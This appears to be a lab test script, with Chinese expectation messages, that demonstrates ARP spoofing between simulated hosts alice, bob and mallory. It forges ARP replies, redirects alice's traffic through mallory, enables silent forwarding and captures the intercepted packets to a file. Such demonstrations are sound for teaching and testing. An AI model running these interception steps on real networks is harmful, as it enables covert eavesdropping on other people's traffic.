# Otherwise bob asks after alice some seconds later, and his question tells her the truth again.
setup bob 'ip neigh replace 192.168.1.1 lladdr 02:00:00:00:00:0a nud permanent dev eth0'
on mallory 'python3 forge.py 192.168.1.50 02:00:00:00:00:0c 192.168.1.1 02:00:00:00:00:0a'
on alice 'ip neigh'
expect 'alice 没有 192.168.1.50 的条目：伪造的应答不新增' [ -z "$output" ]
on alice 'ping -q -c 1 192.168.1.2; ip neigh'
expect 'alice 认得 bob' contains "$output" '192.168.1.2 dev eth0 lladdr 02:00:00:00:00:0b REACHABLE'
sleep 1.5 # locktime
note 'mallory 说：192.168.1.2 在我这里'
on mallory 'python3 forge.py 192.168.1.2 02:00:00:00:00:0c 192.168.1.1 02:00:00:00:00:0a'
on alice 'ip neigh'
expect '已有的条目立刻变成 mallory 的 MAC' contains "$output" '192.168.1.2 dev eth0 lladdr 02:00:00:00:00:0c REACHABLE'
on alice 'ping -q -c 2 -i 0.3 -W 1 192.168.1.2'
expect 'mallory 不转发：全丢' contains "$output" '100% packet loss'
note 'mallory 转发：alice 察觉不到'
on mallory 'sysctl -w net.ipv4.ip_forward=1 net.ipv4.conf.all.send_redirects=0 net.ipv4.conf.eth0.send_redirects=0'
background mallory 'tcpdump -i eth0 -nn --immediate-mode -U -w stolen.pcap icmp and src host 192.168.1.1'
wait_for 'test -s stolen.pcap'
on alice 'ping -q -c 1 -W 2 192.168.1.2'
expect '通' contains "$output" ' 0% packet loss'
wait_for '[ "$(tcpdump -nn -r stolen.pcap | wc -l)" = 2 ]'
on mallory 'tcpdump -e -nn -t -r stolen.pcap 2>/dev/null | cut -d, -f1,3-'
expect '同一个请求过 mallory 两次：alice 发来，mallory 转给 bob' \
    grep -q '02:00:00:00:00:0c > 02:00:00:00:00:0b.* 192.168.1.1 > 192.168.1.2: ICMP echo request' <<<"$output"
